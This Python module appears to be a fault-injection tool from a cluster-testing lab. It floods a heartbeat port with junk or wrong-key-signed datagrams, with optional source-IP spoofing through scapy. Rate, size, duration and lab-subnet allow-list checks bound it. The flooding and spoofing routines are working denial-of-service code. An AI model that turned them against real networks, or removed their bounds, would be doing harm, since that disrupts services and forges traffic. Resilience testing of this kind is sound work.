"""A bounded heartbeat-port flooder, run inside a lab node (the attacker without the key).

    python -m lab.node.flood --dst 192.168.77.255 --allow 192.168.77.0/24 --rate 100 --size 65507 \\
        --duration 20 --out flood.jsonl [--kind junk|wrong_key] [--spoof-src ADDR]

Sends `rate` datagrams a second of `size` bytes to UDP port 694 at `dst` for at most `duration` seconds,
then exits by itself. Bounded by construction: rate <= 2000/s, size <= 65507 (the largest UDP payload
over IPv4), duration <= 120 s, and `dst` must lie in one of the `--allow` networks (the fault passes the
topology's own subnets), so a typo cannot flood anything outside the lab.

Kinds: `junk` is issue 11's flood packet (tiny `a=` lines inside `>>>`/`<<<`, no signature);
`wrong_key` is a well-formed status claiming to be `--claim-src`, signed with a key that is not the
cluster's (hbd.wire's encoder with an authkeys of our own), so the receiver must run the HMAC to refuse it.

How it sends: a plain UDP socket, not scapy, unless the source address is forged. The kernel fragments a
64 KiB datagram into ~45 frames and sends 100 of them a second without effort; scapy's send() builds each
fragment in Python and cannot keep that rate. With `--spoof-src`, scapy is the tool (a raw IP packet
with someone else's source address, fragmented by scapy.fragment()).

Records (JSON lines in --out, flushed at once): `flood.start` when the first datagram has left (what the
fault waits for: a flood that sent nothing must fail the run), `flood.end` with the counts.
SIGTERM ends it early (the heal), still writing `flood.end`.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import signal
import socket
import sys
import time
from collections.abc import Sequence
from typing import IO, Any

from lab.node.heartbeat import HEARTBEAT_PORT, forged_status, junk, wrong_key

MAX_RATE = 2000
MAX_SIZE = 65507
MAX_DURATION_S = 120.0


class Refused(ValueError):
    """The arguments would send outside the lab or without bounds."""


def check_destination(dst: str, allow: Sequence[str]) -> None:
    """`dst` must be inside one of the allowed networks (its broadcast address included)."""
    try:
        addr = ipaddress.ip_address(dst)
        nets = [ipaddress.ip_network(a, strict=False) for a in allow]
    except ValueError as exc:
        raise Refused(str(exc)) from None
    if not any(addr in net for net in nets):
        raise Refused(f"{dst} is in none of the lab networks {', '.join(allow) or '(none given)'}")


def payload(kind: str, size: int, claim_src: str, seq: int) -> bytes:
    if kind == "junk":
        return junk(size)
    # A plausible status from the peer, signed with a wrong key (its size is what it is: < 1 KiB).
    return forged_status(claim_src, seq=seq, generation=int(time.time()), auth=wrong_key())


def _write(out: IO[str], record: dict[str, Any]) -> None:
    out.write(json.dumps(record) + "\n")
    out.flush()


def run(args: argparse.Namespace) -> int:
    check_destination(args.dst, args.allow)
    if args.spoof_src:
        check_destination(args.spoof_src, args.allow)
    stop = False

    def on_term(_sig: int, _frame: object) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    sender = _spoofing_sender(args) if args.spoof_src else _socket_sender(args)
    sent = errors = sent_bytes = 0
    interval = 1.0 / args.rate
    with open(args.out, "a", encoding="utf-8") as out:
        start = time.monotonic()
        end = start + args.duration
        while not stop:
            due = start + sent * interval + errors * interval
            now = time.monotonic()
            if due >= end or now >= end:
                break
            if due > now:
                time.sleep(due - now)
            data = payload(args.kind, args.size, args.claim_src, seq=sent + 1)
            try:
                sender(data)
            except OSError as exc:
                errors += 1
                if errors == 1:
                    _write(out, {"event": "flood.error", "mono": time.monotonic(), "error": str(exc)})
                continue
            sent += 1
            sent_bytes += len(data)
            if sent == 1:
                _write(out, _record("flood.start", args, pid=os.getpid(), first_mono=time.monotonic()))
        _write(
            out,
            _record(
                "flood.end",
                args,
                sent=sent,
                errors=errors,
                bytes=sent_bytes,
                started_mono=start,
                stopped_early=stop,
            ),
        )
    return 0 if sent else 1


def _record(event: str, args: argparse.Namespace, **extra: Any) -> dict[str, Any]:
    return {
        "event": event,
        "mono": time.monotonic(),
        "dst": args.dst,
        "rate": args.rate,
        "size": args.size,
        "kind": args.kind,
        **extra,
    }


def _socket_sender(args: argparse.Namespace) -> Any:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
    target = (args.dst, HEARTBEAT_PORT)
    return lambda data: sock.sendto(data, target)


def _spoofing_sender(args: argparse.Namespace) -> Any:
    from scapy.layers.inet import fragment
    from scapy.sendrecv import send

    from lab.node.heartbeat import packet

    def sender(data: bytes) -> None:
        send(fragment(packet(data, dst=args.dst, src=args.spoof_src)), verbose=False)

    return sender


def parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m lab.node.flood", description=__doc__.split("\n")[0])
    parser.add_argument("--dst", required=True, help="address or broadcast address, port 694")
    parser.add_argument("--allow", action="append", default=[], help="a lab network (CIDR); repeat")
    parser.add_argument("--rate", type=float, default=100.0, help="datagrams per second")
    parser.add_argument("--size", type=int, default=MAX_SIZE, help="bytes per junk datagram")
    parser.add_argument("--duration", type=float, default=10.0, help="seconds, at most")
    parser.add_argument("--kind", choices=("junk", "wrong_key"), default="junk")
    parser.add_argument("--claim-src", default="bob", help="wrong_key: the node the forged status names")
    parser.add_argument("--spoof-src", default=None, help="forge the IP source address (scapy)")
    parser.add_argument("--out", required=True, help="JSON lines: flood.start, flood.end")
    args = parser.parse_args(argv)
    if not 0 < args.rate <= MAX_RATE:
        parser.error(f"--rate must be in (0, {MAX_RATE}]")
    if not 16 <= args.size <= MAX_SIZE:
        parser.error(f"--size must be in [16, {MAX_SIZE}]")
    if not 0 < args.duration <= MAX_DURATION_S:
        parser.error(f"--duration must be in (0, {MAX_DURATION_S:g}]")
    return args


def main(argv: Sequence[str] | None = None) -> int:
    args = parse_args(argv)
    try:
        return run(args)
    except Refused as exc:
        print(f"flood: refused: {exc}", file=sys.stderr)
        return 2


if __name__ == "__main__":
    sys.exit(main())
